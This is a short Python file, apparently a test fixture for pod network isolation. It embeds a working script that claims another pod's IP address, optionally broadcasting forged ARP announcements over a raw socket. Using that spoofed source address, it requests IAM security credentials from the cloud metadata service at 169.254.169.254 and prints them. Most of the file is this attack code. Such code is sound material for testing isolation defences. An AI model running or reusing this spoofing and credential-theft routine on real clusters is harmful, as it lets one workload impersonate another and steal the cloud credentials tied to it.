"""A pod that takes over the address of another one, as a script that runs in it."""

# It is told the address, and whether to announce it to the whole link as well. It says what came of
# each of its tries: status and body, or the error.
TAKEOVER = r"""
import pathlib, socket, struct, subprocess, sys

victim, announces = sys.argv[1], "announce" in sys.argv[2:]
subprocess.run(["ip", "address", "add", f"{victim}/32", "dev", "eth0"], check=True)
own = bytes.fromhex(pathlib.Path("/sys/class/net/eth0/address").read_text().replace(":", ""))
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
address = socket.inet_aton(victim)
for attempt in range(5):
    for operation in (1, 2) if announces else ():
        # ARP, Ethernet and IPv4: "I have this address", asked and answered.
        head = struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation)
        wire.send(b"\xff" * 6 + own + head + own + address + b"\xff" * 6 + address)
    try:
        endpoint = socket.create_connection(("169.254.169.254", 80), 1, source_address=(victim, 0))
        path = "/latest/meta-data/iam/security-credentials/"
        endpoint.sendall(f"GET {path} HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n".encode())
        endpoint.settimeout(5)
        said = b"".join(iter(lambda: endpoint.recv(65536), b""))  # It comes byte by byte, at first.
        head, _, body = said.partition(b"\r\n\r\n")
        print(head.split()[1].decode(), body.decode(), sep="")
    except OSError as error:
        print(type(error).__name__)
subprocess.run(["ip", "address", "delete", f"{victim}/32", "dev", "eth0"], check=True)
"""
